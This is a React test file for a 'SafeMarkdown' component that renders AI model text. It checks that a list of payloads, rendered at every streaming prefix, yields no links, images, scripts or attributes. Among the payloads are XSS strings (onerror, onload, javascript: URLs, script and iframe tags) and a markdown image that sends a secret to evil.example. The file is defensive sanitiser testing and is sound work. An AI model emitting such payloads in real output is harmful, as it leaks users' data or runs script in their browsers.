import { render } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import SafeMarkdown from "./SafeMarkdown";

const rendered = (text: string) => render(<SafeMarkdown text={text} />).container;

describe("model text", () => {
  test("shows emphasis and code", () => {
    const { innerHTML } = rendered("You have **25 days** of *annual* leave, see `HR-22`.");
    expect(innerHTML).toBe(
      "You have <strong>25 days</strong> of <em>annual</em> leave, see <code>HR-22</code>.",
    );
  });

  test.each([
    "![pixel](https://evil.example/leak.png?q=secret)",
    "[click](https://evil.example)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "[ref]\n\n[ref]: https://evil.example",
    "![ref][1]\n\n[1]: https://evil.example/p.png",
    '<img src="https://evil.example/p.png" onerror="alert(1)">',
    '<a href="https://evil.example">x</a>',
    "<script>alert(1)</script>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<iframe src="https://evil.example"></iframe>',
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "> [a]: //evil.example/leak.png\n\n![a]",
    "[a](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)> <leak@evil.example>",
    "www.evil.example https://evil.example mailto:leak@evil.example",
    "<svg onload=alert(1)><a xlink:href='//evil.example'>x</a></svg>",
    '<form action="//evil.example"><input name=q autofocus></form><object data="//evil.example">',
    "# Heading\n\n- [a](https://evil.example)\n\n> quote",
  ])("%j loads nothing and leads nowhere", (text) => {
    // A stream shows every beginning of a text for a moment.
    for (let end = 1; end <= text.length; end++) {
      const container = rendered(text.slice(0, end));
      expect(
        container.querySelectorAll("a, img, script, style, iframe, svg, object, link, form, input"),
      ).toHaveLength(0);
      for (const element of container.querySelectorAll("*")) expect(element.getAttributeNames()).toEqual([]);
    }
  });

  test("a link keeps its words", () => {
    expect(rendered("See [the policy](https://evil.example).").textContent).toBe("See the policy.");
  });
});
